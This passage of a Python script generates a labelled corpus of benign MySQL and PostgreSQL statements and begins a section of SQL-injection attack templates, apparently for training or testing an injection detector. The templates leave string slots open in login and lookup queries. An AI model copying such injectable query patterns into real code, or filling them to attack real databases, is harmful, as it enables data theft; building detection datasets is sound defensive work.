    "SELECT 1", "select 1", "/* ping */ SELECT 1", "SELECT @@version", "SELECT VERSION()", "select @@version_comment limit 1",
    "SELECT DATABASE()", "SELECT USER()", "SELECT CURRENT_USER()", "SHOW DATABASES", "SHOW TABLES", "show warnings",
    "SET NAMES utf8mb4", "SET NAMES 'utf8mb4' COLLATE 'utf8mb4_unicode_ci'", "SET autocommit=1", "SET autocommit=0",
    "SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED", "SET sql_mode='STRICT_TRANS_TABLES,NO_ZERO_DATE'",
    "SET time_zone = '+00:00'", "SET character_set_results = NULL", "SHOW VARIABLES LIKE 'sql_mode'",
    "SHOW VARIABLES LIKE 'lower_case_table_names'", "SHOW FULL PROCESSLIST", "SHOW ENGINE INNODB STATUS",
    "SHOW GLOBAL STATUS LIKE 'Threads_%'", "SHOW SLAVE STATUS", "SHOW MASTER STATUS", "START TRANSACTION", "COMMIT", "ROLLBACK",
    "/* mysql-connector-java-8.0.33 (Revision: 7d6b0800528b6b25c68b52dc10d6c1c8429c100c) */SELECT  @@session.auto_increment_increment "
    "AS auto_increment_increment, @@character_set_client AS character_set_client, @@character_set_connection AS "
    "character_set_connection, @@character_set_results AS character_set_results, @@character_set_server AS character_set_server, "
    "@@collation_server AS collation_server, @@collation_connection AS collation_connection, @@init_connect AS init_connect, "
    "@@interactive_timeout AS interactive_timeout, @@license AS license, @@lower_case_table_names AS lower_case_table_names, "
    "@@max_allowed_packet AS max_allowed_packet, @@net_write_timeout AS net_write_timeout, @@performance_schema AS "
    "performance_schema, @@sql_mode AS sql_mode, @@system_time_zone AS system_time_zone, @@time_zone AS time_zone, "
    "@@transaction_isolation AS transaction_isolation, @@wait_timeout AS wait_timeout",
    "SELECT @@max_allowed_packet,@@system_time_zone,@@time_zone,@@auto_increment_increment",
    "SELECT @@session.transaction_read_only", "SELECT @@tx_isolation", "select @@session.transaction_isolation",
    "SELECT SLEEP(1)", "DO SLEEP(0.5)", "SELECT BENCHMARK(1000000, MD5('test'))", "SELECT GET_LOCK('schema_migrations', 0)",
    "SELECT RELEASE_LOCK('schema_migrations')", "SELECT IS_FREE_LOCK('cron')", "SELECT LOAD_FILE('/var/lib/mysql-files/seed.csv')",
    "SELECT CONNECTION_ID()", "SELECT LAST_INSERT_ID()", "SELECT ROW_COUNT()", "SELECT FOUND_ROWS()", "SELECT NOW()", "SELECT UTC_TIMESTAMP()",
    "SELECT table_name, table_type, table_comment FROM information_schema.tables WHERE table_schema = DATABASE()",
    "SELECT column_name, data_type, character_maximum_length, numeric_precision, numeric_scale, extra, column_default, "
    "CASE WHEN extra LIKE '%DEFAULT_GENERATED%' THEN 1 ELSE 0 END AS is_generated FROM information_schema.columns "
    "WHERE table_name = 'app_user' AND table_schema = DATABASE()",
    "SELECT kc.constraint_name, kc.column_name, kc.referenced_table_name, kc.referenced_column_name, c.constraint_type "
    "FROM information_schema.key_column_usage AS kc, information_schema.table_constraints AS c WHERE kc.table_schema = DATABASE() "
    "AND c.table_schema = kc.table_schema AND c.constraint_name = kc.constraint_name AND c.constraint_type != 'CHECK' AND kc.table_name = 'orders'",
    "SELECT engine FROM information_schema.tables WHERE table_name = 'django_migrations' AND table_schema = DATABASE()",
    "SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = 'shop' AND table_name = 'flyway_schema_history'",
    "SELECT `installed_rank`,`version`,`description`,`type`,`script`,`checksum`,`installed_on`,`installed_by`,`execution_time`,`success` "
    "FROM `shop`.`flyway_schema_history` WHERE `installed_rank` > -1 ORDER BY `installed_rank`",
    "SELECT `schema_migrations`.`version` FROM `schema_migrations` ORDER BY `schema_migrations`.`version` ASC",
    "SELECT `ar_internal_metadata`.* FROM `ar_internal_metadata` WHERE `ar_internal_metadata`.`key` = 'environment' LIMIT 1",
    "SELECT name, COUNT(*) FROM mysql.user GROUP BY name", "SELECT user, host FROM mysql.user WHERE account_locked = 'N'",
    "SELECT SUM(data_length + index_length) FROM information_schema.tables WHERE table_schema = 'shop'",
    "SELECT COUNT(*) FROM information_schema.processlist WHERE command != 'Sleep'",
    "SELECT name, subsystem, count, type FROM information_schema.innodb_metrics WHERE status = 'enabled'",
    "SELECT schema_name, digest_text, count_star, sum_timer_wait FROM performance_schema.events_statements_summary_by_digest "
    "WHERE schema_name NOT IN ('mysql', 'performance_schema', 'information_schema') ORDER BY sum_timer_wait DESC LIMIT 10",
    "SELECT variable_name, variable_value FROM performance_schema.global_status WHERE variable_name IN ('Uptime', 'Questions')",
    "SHOW CREATE TABLE `orders`", "DESCRIBE `users`", "SHOW INDEX FROM `products`", "EXPLAIN SELECT * FROM orders WHERE user_id = 5",
    "ANALYZE TABLE orders", "OPTIMIZE TABLE sessions", "FLUSH PRIVILEGES", "KILL QUERY 4711", "USE shop",
    "SELECT SQL_NO_CACHE COUNT(*) FROM orders", "SELECT /*+ MAX_EXECUTION_TIME(1000) */ id FROM orders WHERE status = 'open'",
    "SELECT /*!40001 SQL_NO_CACHE */ * FROM `orders`", "SELECT * FROM orders WHERE id = 1 LOCK IN SHARE MODE",
    "SELECT SQL_CALC_FOUND_ROWS id FROM products WHERE price > 10 LIMIT 10; SELECT FOUND_ROWS()",
    "SELECT HEX(id), name FROM devices WHERE id = UNHEX('3F2A9C0B7D1E4F5A8B6C1D2E3F4A5B6C')",
    "SELECT name FROM devices WHERE id = 0x3F2A9C0B7D1E4F5A8B6C1D2E3F4A5B6C",
    "SELECT name FROM devices WHERE id = X'9C3F2A0B7D1E4F5A8B6C1D2E3F4A5B6C'",
    "SELECT * FROM orders WHERE created_at >= CURDATE() - INTERVAL 1 MONTH AND status <> 'cancelled'",
    "SELECT CONCAT(first_name, ' ', last_name) AS full_name FROM customers WHERE CHAR_LENGTH(last_name) > 3",
    "SELECT REPLACE(body, CHAR(13), '') FROM posts WHERE id = 9", "SELECT id FROM posts WHERE LEFT(slug, 3) = 'faq'",
    "SELECT id FROM users WHERE LOWER(email) = LOWER('Someone@Example.com') AND password_hash = SHA2(CONCAT('x', salt), 256)",
    "SELECT IF(stock > 0, 'in stock', 'sold out') AS availability FROM products WHERE id = 12",
    "SELECT ExtractValue(doc, '/invoice/total') AS total FROM xml_invoices WHERE id = 31",
    "SELECT id FROM xml_invoices WHERE ExtractValue(doc, '/invoice/@currency') = 'CHF'",
    "UPDATE xml_invoices SET doc = UpdateXML(doc, '/invoice/status', '<status>paid</status>') WHERE id = 31",
    "SELECT GTID_SUBSET('3E11FA47-71CA-11E1-9E33-C80AA9429562:21-57', @@GLOBAL.gtid_executed)",
    "SELECT a.id FROM a LEFT JOIN b ON b.a_id = a.id WHERE b.id IS NULL OR b.deleted = 1",
    "SELECT * FROM t WHERE flags & 4 = 4 OR flags | 2 = 2",
    "SELECT id FROM users WHERE name LIKE 'O\\'Brien%' OR name LIKE 'O''Neil%'",
    "SELECT 'it''s' AS a, \"double \\\" quoted\" AS b, 'back\\\\slash' AS c",
    "SELECT * FROM products WHERE name = \"Women's Shoes\" AND price < 100",
    "INSERT INTO orders (customer_id, total, note) VALUES (3, 42.00, 'it\\'s; fine') ON DUPLICATE KEY UPDATE total = VALUES(total)",
    "REPLACE INTO cache (k, v, expires) VALUES ('user:42', '{\"a\":1}', UNIX_TIMESTAMP() + 300)",
    "DELETE FROM sessions WHERE expires < UNIX_TIMESTAMP() LIMIT 500",
    "LOAD DATA LOCAL INFILE '/tmp/import.csv' INTO TABLE staging FIELDS TERMINATED BY ',' ENCLOSED BY '\"' LINES TERMINATED BY '\\n' IGNORE 1 LINES",
    "SELECT id, name INTO OUTFILE '/var/lib/mysql-files/export.csv' FIELDS TERMINATED BY ',' FROM products",
    "CALL refresh_stats(7)", "PREPARE s FROM 'SELECT name FROM customers WHERE id = ?'", "EXECUTE s USING @a", "DEALLOCATE PREPARE s",
    "SET @a = 3", "SET @rank := 0", "SELECT @rank := @rank + 1 AS rank, name FROM players ORDER BY score DESC",
    "XA START 'tx1'", "HANDLER t1 OPEN", "CHECKSUM TABLE orders", "SHOW CREATE PROCEDURE refresh_stats",
    "SELECT * FROM users WHERE user = 'admin' AND host = '%'",
    "SELECT id FROM items WHERE price BETWEEN 10 AND 20 AND qty NOT BETWEEN 0 AND 1",
    "SELECT id FROM `information_schema`.`TABLES` WHERE `TABLE_SCHEMA` = 'shop'",
    "SELECT 1 FROM DUAL WHERE NOT EXISTS (SELECT 1 FROM locks WHERE name = 'nightly')",
    "SELECT * FROM orders WHERE id = 5 FOR UPDATE; UPDATE orders SET status = 'paid' WHERE id = 5",
]

PG_FIXED = [
    "SELECT 1", "select 1", "SELECT version()", "SELECT current_database(), current_user", "select current_schema()",
    "SELECT pg_sleep(0.1)", "SELECT pg_sleep(1)", "select pg_is_in_recovery()", "SELECT now() - pg_last_xact_replay_timestamp() AS lag",
    "SET application_name = 'PostgreSQL JDBC Driver'", "SET extra_float_digits = 3", "SET search_path TO public",
    "SET statement_timeout = '30s'", "SET LOCAL lock_timeout = '5s'", "SET TIME ZONE 'UTC'", "SET client_encoding TO 'UTF8'",
    "SHOW TRANSACTION ISOLATION LEVEL", "SHOW server_version", "SHOW max_connections", "BEGIN", "COMMIT", "ROLLBACK", "END",
    "BEGIN ISOLATION LEVEL REPEATABLE READ", "START TRANSACTION READ ONLY", "DISCARD ALL", "RESET ALL", "DEALLOCATE ALL",
    "LISTEN jobs", "UNLISTEN *", "SELECT pg_notify('events', '{\"kind\":\"refresh\"}')", "SELECT txid_current()",
    "SELECT pg_database_size(current_database())", "SELECT pg_size_pretty(pg_total_relation_size('orders'))",
    "SELECT datname, numbackends, xact_commit FROM pg_stat_database WHERE datname NOT IN ('template0', 'template1')",
    "SELECT pid, state, query FROM pg_stat_activity WHERE state = 'active' AND pid <> pg_backend_pid()",
    "SELECT pg_cancel_backend(4711)", "SELECT client_addr, state, sent_lsn, replay_lsn FROM pg_stat_replication",
    "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock'",
    "SELECT query, calls, total_exec_time FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 20",
    "SELECT c.relname, CASE WHEN c.relispartition THEN 'p' WHEN c.relkind IN ('m', 'v') THEN 'v' ELSE 't' END, "
    "obj_description(c.oid, 'pg_class') FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
    "WHERE c.relkind IN ('f', 'm', 'p', 'r', 'v') AND n.nspname NOT IN ('pg_catalog', 'pg_toast') AND pg_catalog.pg_table_is_visible(c.oid)",
    "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull, a.atttypid, a.atttypmod, "
    "c.collname, col_description(a.attrelid, a.attnum) AS comment FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid "
    "AND a.attnum = d.adnum LEFT JOIN pg_type t ON a.atttypid = t.oid LEFT JOIN pg_collation c ON a.attcollation = c.oid "
    "AND a.attcollation <> t.typcollation WHERE a.attrelid = '\"users\"'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
    "SELECT t.oid, t.typname FROM pg_type t WHERE t.typname IN ('hstore', 'citext', 'geometry')",
    "SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN "
    "'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' "
    "WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as \"Type\", pg_catalog.pg_get_userbyid(c.relowner) "
    "as \"Owner\" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace LEFT JOIN "
    "pg_catalog.pg_am am ON am.oid = c.relam WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND n.nspname !~ "
    "'^pg_toast' AND n.nspname <> 'information_schema' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2;",
    "SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
    "WHERE c.relname OPERATOR(pg_catalog.~) '^(orders)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3;",
    "SELECT d.datname as \"Name\", pg_catalog.pg_get_userbyid(d.datdba) as \"Owner\", pg_catalog.pg_encoding_to_char(d.encoding) "
    "as \"Encoding\" FROM pg_catalog.pg_database d ORDER BY 1;",
    "SELECT r.rolname, r.rolsuper, r.rolinherit, r.rolcreaterole, r.rolcreatedb, r.rolcanlogin, r.rolconnlimit, r.rolvaliduntil, "
    "ARRAY(SELECT b.rolname FROM pg_catalog.pg_auth_members m JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid) WHERE m.member = r.oid) "
    "as memberof, r.rolreplication, r.rolbypassrls FROM pg_catalog.pg_roles r WHERE r.rolname !~ '^pg_' ORDER BY 1;",
    "SELECT NULL AS TABLE_CAT, n.nspname AS TABLE_SCHEM, c.relname AS TABLE_NAME, CASE n.nspname ~ '^pg_' OR n.nspname = "
    "'information_schema' WHEN true THEN CASE WHEN n.nspname = 'pg_catalog' OR n.nspname = 'information_schema' THEN CASE c.relkind "
    "WHEN 'r' THEN 'SYSTEM TABLE' WHEN 'v' THEN 'SYSTEM VIEW' ELSE NULL END ELSE NULL END WHEN false THEN CASE c.relkind WHEN 'r' "
    "THEN 'TABLE' WHEN 'v' THEN 'VIEW' ELSE NULL END ELSE NULL END AS TABLE_TYPE, d.description AS REMARKS FROM pg_catalog.pg_namespace n, "
    "pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_description d ON (c.oid = d.objoid AND d.objsubid = 0 and d.classoid = "
    "'pg_class'::regclass) WHERE c.relnamespace = n.oid AND c.relname LIKE 'orders' AND (false OR ( c.relkind IN ('r','p') AND "
    "n.nspname !~ '^pg_' AND n.nspname <> 'information_schema' ) ) ORDER BY TABLE_TYPE,TABLE_SCHEM,TABLE_NAME",
    "SELECT ns.nspname, t.oid, t.typname, t.typtype, t.typnotnull, t.elemtypoid FROM (SELECT typ.oid, typ.typnamespace, typ.typname, "
    "typ.typtype, typ.typrelid, typ.typnotnull, typ.relkind, elemtyp.oid AS elemtypoid FROM (SELECT typ.oid, typnamespace, typname, "
    "typrelid, typnotnull, relkind, typelem AS elemoid, CASE WHEN proc.proname='array_recv' THEN 'a' ELSE typ.typtype END AS typtype "
    "FROM pg_type AS typ LEFT JOIN pg_class AS cls ON (cls.oid = typ.typrelid) LEFT JOIN pg_proc AS proc ON proc.oid = typ.typreceive) "
    "AS typ LEFT JOIN pg_type AS elemtyp ON elemtyp.oid = elemoid) AS t JOIN pg_namespace AS ns ON (ns.oid = typnamespace) WHERE "
    "typtype IN ('b', 'r', 'm', 'e', 'd') OR (typtype = 'c' AND relkind='c') OR (typtype = 'p' AND typname IN ('record', 'void')) "
    "OR (typtype = 'a' AND (elemtyptype IN ('b', 'r', 'm', 'e', 'd') OR (elemtyptype = 'p' AND elemtypname IN ('record', 'void')) "
    "OR (elemtyptype = 'c' AND elemrelkind='c'))) ORDER BY CASE WHEN typtype IN ('b', 'e', 'p') THEN 0 WHEN typtype = 'r' THEN 1 "
    "WHEN typtype = 'm' THEN 2 WHEN typtype = 'c' THEN 3 WHEN typtype = 'd' AND elemtyptype <> 'a' THEN 4 WHEN typtype = 'a' THEN 5 "
    "WHEN typtype = 'd' AND elemtyptype = 'a' THEN 6 END",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' "
    "UNION SELECT table_name FROM information_schema.views WHERE table_schema = 'public'",
    "SELECT column_name, data_type, is_nullable, column_default FROM information_schema.columns WHERE table_schema = current_schema() "
    "AND table_name = 'orders' ORDER BY ordinal_position",
    "SELECT \"installed_rank\",\"version\",\"description\",\"type\",\"script\",\"checksum\",\"installed_on\",\"installed_by\","
    "\"execution_time\",\"success\" FROM \"public\".\"flyway_schema_history\" WHERE \"installed_rank\" > $1 ORDER BY \"installed_rank\"",
    "SELECT COUNT(*) FROM public.databasechangeloglock",
    "UPDATE public.databasechangeloglock SET LOCKED = TRUE, LOCKEDBY = 'app-7f9c (10.0.3.7)', LOCKGRANTED = NOW() WHERE ID = 1 AND LOCKED = FALSE",
    "SELECT \"schema_migrations\".\"version\" FROM \"schema_migrations\" ORDER BY \"schema_migrations\".\"version\" ASC",
    "SELECT pg_catalog.set_config('search_path', '', false);", "SELECT set_config('app.current_tenant', '42', true)",
    "COPY public.orders (id, customer_id, total, note) FROM stdin;", "COPY (SELECT id, email FROM users WHERE is_active) TO STDOUT WITH CSV HEADER",
    "VACUUM ANALYZE orders", "ANALYZE pgbench_accounts", "REINDEX INDEX CONCURRENTLY orders_user_id_idx", "CHECKPOINT",
    "SELECT id FROM orders WHERE note ~* 'refund|chargeback' AND total::numeric > 100", "SELECT 'O''Brien' || ' ' || 'x' AS n",
    "SELECT E'line\\nbreak', $tag$it's $$ ok$tag$, U&'d\\0061t\\+000061' AS u",
    "SELECT $$;DROP TABLE users; -- not code$$ AS s", "SELECT id FROM docs WHERE body LIKE '%--%' OR title LIKE '%/*%'",
    "DO $$ BEGIN PERFORM pg_sleep(0.2); END $$", "CREATE OR REPLACE FUNCTION touch() RETURNS trigger AS $$ BEGIN NEW.updated_at = now(); "
    "RETURN NEW; END; $$ LANGUAGE plpgsql",
    "SELECT id FROM accounts WHERE balance::text = '0' OR owner_id IS NULL",
    "SELECT * FROM orders WHERE created_at > now() - interval '1 hour' AND status IN ('open', 'pending') ORDER BY id LIMIT 100",
    "SELECT id FROM events WHERE occurred_at::date = CURRENT_DATE AND kind = ANY(ARRAY['error', 'warn'])",
    "SELECT count(*) FILTER (WHERE paid) AS paid, count(*) FILTER (WHERE NOT paid) AS open FROM invoices",
    "SELECT id FROM users WHERE email = lower($1) AND deleted_at IS NULL LIMIT 1",
    "INSERT INTO events (kind, payload, occurred_at) VALUES ($1, $2, $3) ON CONFLICT DO NOTHING",
    "INSERT INTO accounts (id, balance) VALUES (7, 0) ON CONFLICT (id) DO UPDATE SET balance = accounts.balance + EXCLUDED.balance RETURNING balance",
    "WITH moved AS (DELETE FROM jobs WHERE finished_at < now() - interval '7 days' RETURNING *) INSERT INTO jobs_archive SELECT * FROM moved",
    "SELECT id FROM products WHERE to_tsvector('simple', name) @@ to_tsquery('simple', 'lamp & table')",
    "SELECT n.nspname, p.proname FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace WHERE n.nspname = 'public'",
    "SELECT usename, passwd IS NOT NULL AS has_password FROM pg_shadow WHERE usename = current_user",
    "SELECT CAST(count(*) AS int) FROM orders WHERE status = 'open'", "SELECT version()::text",
    "SELECT id FROM orders WHERE total > 10 UNION ALL SELECT id FROM orders_archive WHERE total > 10",
    "SELECT 1; SELECT name FROM customers WHERE id = 2",
]

PGBENCH = [
    "drop table if exists pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
    "create table pgbench_history(tid int,bid int,aid    int,delta int,mtime timestamp,filler char(22))",
    "create table pgbench_tellers(tid int not null,bid int,tbalance int,filler char(84)) with (fillfactor=100)",
    "create table pgbench_accounts(aid    int not null,bid int,abalance int,filler char(84)) with (fillfactor=100)",
    "create table pgbench_branches(bid int not null,bbalance int,filler char(88)) with (fillfactor=100)",
    "truncate table pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
    "insert into pgbench_branches(bid,bbalance) values(1,0)", "copy pgbench_accounts from stdin with (freeze on)",
    "vacuum analyze pgbench_branches", "vacuum analyze pgbench_tellers", "vacuum analyze pgbench_accounts",
    "alter table pgbench_branches add primary key (bid)", "alter table pgbench_tellers add primary key (tid)",
    "alter table pgbench_accounts add primary key (aid)", "select count(*) from pgbench_branches",
    "select o.n, p.partstrat, pg_catalog.count(i.inhparent) from pg_catalog.pg_class as c join pg_catalog.pg_namespace as n on "
    "(n.oid = c.relnamespace) cross join lateral (select pg_catalog.array_position(pg_catalog.current_schemas(true), n.nspname)) as o(n) "
    "left join pg_catalog.pg_partitioned_table as p on (p.partrelid = c.oid) left join pg_catalog.pg_inherits as i on (c.oid = i.inhparent) "
    "where c.relname = 'pgbench_accounts' and o.n is not null group by 1, 2 order by 1 asc limit 1",
]


def pgbench():
    aid, bid, tid, delta = R.randint(1, 100000), R.randint(1, 10), R.randint(1, 100), R.randint(-5000, 5000)
    return R.choice([
        "UPDATE pgbench_accounts SET abalance = abalance + %d WHERE aid = %d;" % (delta, aid),
        "SELECT abalance FROM pgbench_accounts WHERE aid = %d;" % aid,
        "UPDATE pgbench_tellers SET tbalance = tbalance + %d WHERE tid = %d;" % (delta, tid),
        "UPDATE pgbench_branches SET bbalance = bbalance + %d WHERE bid = %d;" % (delta, bid),
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (%d, %d, %d, %d, CURRENT_TIMESTAMP);" % (tid, bid, aid, delta),
        "BEGIN;", "END;", "SELECT abalance FROM pgbench_accounts WHERE aid = $1;",
        "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
    ])


def migration(d):
    """Multi-statement scripts: migrations, dumps, schema loads."""
    k = R.randint(0, 6)
    t = R.choice(sorted(MODELS))
    if d == "m":
        if k == 0:
            return ("/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;\n/*!40101 SET NAMES utf8mb4 */;\n"
                    "/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;\n"
                    "DROP TABLE IF EXISTS `%s`;\nCREATE TABLE `%s` (\n  `id` int NOT NULL AUTO_INCREMENT,\n  `name` varchar(255) DEFAULT NULL,\n"
                    "  PRIMARY KEY (`id`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;\nLOCK TABLES `%s` WRITE;\n"
                    "INSERT INTO `%s` VALUES (1,%s),(2,%s);\nUNLOCK TABLES;" % (t, t, t, t, qm(name()), qm(R.choice(WORDS))))
        if k == 1:
            return ("-- Add the users' email index (don't lock)\nALTER TABLE `%s` ADD INDEX `idx_%s_created` (`created_at`), ALGORITHM=INPLACE, LOCK=NONE;\n"
                    "INSERT INTO `schema_migrations` (`version`) VALUES ('2024%08d')" % (t, t, R.randint(0, 10 ** 8 - 1)))
        if k == 2:
            return ("CREATE TABLE IF NOT EXISTS `audit_%s` (`id` bigint unsigned NOT NULL AUTO_INCREMENT PRIMARY KEY, `action` varchar(16) NOT NULL, "
                    "`at` datetime(6) NOT NULL DEFAULT CURRENT_TIMESTAMP(6)) ENGINE=InnoDB; CREATE INDEX audit_at ON audit_%s (at)" % (t, t))
        if k == 3:
            return ("CREATE TRIGGER %s_bu BEFORE UPDATE ON %s FOR EACH ROW BEGIN IF NEW.updated_at IS NULL THEN SET NEW.updated_at = NOW(); "
                    "END IF; END" % (t, t))
        if k == 4:
            return "GRANT SELECT, INSERT, UPDATE, DELETE ON shop.* TO 'app'@'10.0.%%'; FLUSH PRIVILEGES"
        if k == 5:
            return "SET FOREIGN_KEY_CHECKS=0; TRUNCATE TABLE `%s`; SET FOREIGN_KEY_CHECKS=1" % t
        return "ALTER TABLE `%s` ADD COLUMN `note` text NULL AFTER `id`; UPDATE `%s` SET `note` = '' WHERE `note` IS NULL" % (t, t)
    if k == 0:
        return ("SET statement_timeout = 0;\nSET lock_timeout = 0;\nSET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\n"
                "SELECT pg_catalog.set_config('search_path', '', false);\nSET check_function_bodies = false;\nCREATE TABLE public.%s (\n"
                "    id integer NOT NULL,\n    name text\n);\nALTER TABLE public.%s OWNER TO app;\nCOPY public.%s (id, name) FROM stdin;" % (t, t, t))
    if k == 1:
        return ("BEGIN;\n-- V%d__add_%s_flag.sql: it's safe to re-run\nALTER TABLE \"%s\" ADD COLUMN IF NOT EXISTS \"flag\" boolean DEFAULT false NOT NULL;\n"
                "CREATE INDEX CONCURRENTLY IF NOT EXISTS \"%s_flag_idx\" ON \"%s\" (\"flag\");\nINSERT INTO \"schema_migrations\" (\"version\") VALUES ('2024%08d');\nCOMMIT;"
                % (R.randint(2, 99), t, t, t, t, R.randint(0, 10 ** 8 - 1)))
    if k == 2:
        return ("ALTER TABLE \"%s\" ADD COLUMN \"score\" integer DEFAULT 0 NOT NULL CHECK (\"score\" >= 0); ALTER TABLE \"%s\" ALTER COLUMN \"score\" "
                "DROP DEFAULT; CREATE INDEX \"%s_score_idx\" ON \"%s\" (\"score\")" % (t, t, t, t))
    if k == 3:
        return ("CREATE OR REPLACE FUNCTION %s_audit() RETURNS trigger LANGUAGE plpgsql AS $fn$\nBEGIN\n  INSERT INTO audit(tbl, op, at) VALUES "
                "(TG_TABLE_NAME, TG_OP, now());\n  RETURN NEW;\nEND;\n$fn$;\nDROP TRIGGER IF EXISTS %s_audit ON %s;\nCREATE TRIGGER %s_audit AFTER "
                "UPDATE ON %s FOR EACH ROW EXECUTE FUNCTION %s_audit();" % (t, t, t, t, t, t))
    if k == 4:
        return "GRANT SELECT ON ALL TABLES IN SCHEMA public TO readonly; ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO readonly"
    if k == 5:
        return "CREATE EXTENSION IF NOT EXISTS pgcrypto; CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\"; SELECT gen_random_uuid()"
    return ("-- name: GetAuthor :one\nSELECT id, name, bio FROM authors\nWHERE id = $1 LIMIT 1")


def multiline(d):
    """Hand-written SQL with comments, as kept in application source files."""
    t, cols = model()
    c = R.choice(cols[1:])
    k = R.randint(0, 5)
    if k == 5:
        return ("SELECT id, %s\n  FROM %s\n WHERE 1=1 -- so that every optional filter can start with AND\n"
                "   AND %s = %s\n ORDER BY id" % (c, t, c, col_value(d, c)))
    if k == 0:
        return ("SELECT o.id, o.total\n  FROM orders o\n  -- only paid orders; refunds are handled elsewhere\n WHERE o.status = %s\n"
                "   AND o.total > %s -- user's threshold\n ORDER BY o.created_at DESC" % (q(d, R.choice(STATUS)), money()))
    if k == 1:
        return ("/* report: monthly revenue */\nSELECT date_trunc('month', created_at) AS m, sum(total)\nFROM orders\nGROUP BY 1\nORDER BY 1"
                if d == "p" else "/* report: monthly revenue */\nSELECT DATE_FORMAT(created_at, '%Y-%m') AS m, SUM(total)\nFROM orders\nGROUP BY 1\nORDER BY 1")
    if k == 2:
        return "SELECT * FROM %s WHERE %s = %s /*controller='%s',action='show',framework='django%%3A4.2'*/" % (t, c, col_value(d, c), t)
    if k == 3:
        return "SELECT * FROM %s WHERE id = %d /* traceparent='00-%s-%s-01' */" % (t, R.randint(1, 9999), hexs(32), hexs(16))
    return ("SELECT id\nFROM %s\nWHERE %s = %s\n  AND id > %d -- keyset pagination\nLIMIT 50" % (t, c, col_value(d, c), R.randint(0, 99999)))


def pcap_statements():
    out = []
    for d, f, field, flt in (("m", "l7-mysql.pcap", "mysql.query", "mysql.query"),
                             ("p", "l7-pgsql.pcap", "pgsql.query", "pgsql.query")):
        try:
            r = subprocess.run(["tshark", "-r", os.path.join(DATA, f), "-Y", flt, "-T", "fields", "-e", field],
                               capture_output=True, text=True, check=True)
        except (OSError, subprocess.CalledProcessError):
            sys.stderr.write("gen.py: tshark unavailable, %s statements left out\n" % f)
            continue
        for line in r.stdout.splitlines():
            line = line.strip()
            if line:
                out.append((d, "pcap", line))
    return out


def benign(payloads):
    out = list(pcap_statements())
    gens = [("django", django, 380), ("rails", rails, 380), ("hibernate", hibernate, 200), ("sqlalchemy", sqlalchemy, 200),
            ("gorm", gorm, 160), ("sequelize", sequelize, 120), ("laravel", laravel, 180), ("doctrine", doctrine, 100),
            ("prisma-jooq-knex", prisma_jooq_knex, 160), ("analytics", analytics, 240), ("builder", builders, 260),
            ("queue", queue, 100), ("migration", migration, 120), ("multiline", multiline, 160),
            ("orm-or", orm_or, 300), ("bulk-insert", bulk, 120), ("bi", bi, 160),
            ("escaped-payload", lambda d: escaped_payload(d, payloads), 900)]
    for tag, fn, n in gens:
        for _ in range(n):
            d = R.choice("mp")
            out.append((d, tag, fn(d)))
    for _ in range(160):
        out.append(("m", "wordpress", wordpress("m")))
    for _ in range(260):
        out.append(("p", "pgbench", pgbench()))
    out += [("m", "client-driver", s) for s in MYSQL_FIXED]
    out += [("p", "client-driver", s) for s in PG_FIXED]
    out += [("p", "pgbench", s) for s in PGBENCH]
    return out


# ------------------------------------------------------------------ attacks

# Templates: (dialects, slot kind, parenthesis depth around the slot, text).
# "{}" is the slot; S a single-quoted string slot, D a double-quoted one
# (MySQL), N a numeric one.
TEMPLATES = [
    ("mp", "S", 0, "SELECT * FROM users WHERE username = '{}' AND password = '{h}'"),
    ("mp", "S", 0, "SELECT id, name, price FROM products WHERE name = '{}'"),
    ("mp", "S", 0, "SELECT * FROM products WHERE category = '{}' ORDER BY price DESC"),
    ("mp", "S", 0, "SELECT id, title FROM articles WHERE title LIKE '%{}%' ORDER BY published_at DESC LIMIT 20"),
    ("mp", "S", 0, "SELECT * FROM customers WHERE email = '{}' LIMIT 1"),
    ("mp", "S", 0, "SELECT COUNT(*) FROM orders WHERE status = '{}'"),
    ("mp", "S", 0, "SELECT u.id, u.name FROM users u JOIN profiles p ON p.user_id = u.id WHERE u.login = '{}' AND u.active = 1"),
    ("m", "S", 0, "SELECT * FROM sessions WHERE token = '{}' AND expires_at > NOW()"),
    ("p", "S", 0, "SELECT * FROM sessions WHERE token = '{}' AND expires_at > now()"),
    ("mp", "S", 0, "SELECT name, description FROM items WHERE sku = '{}'"),
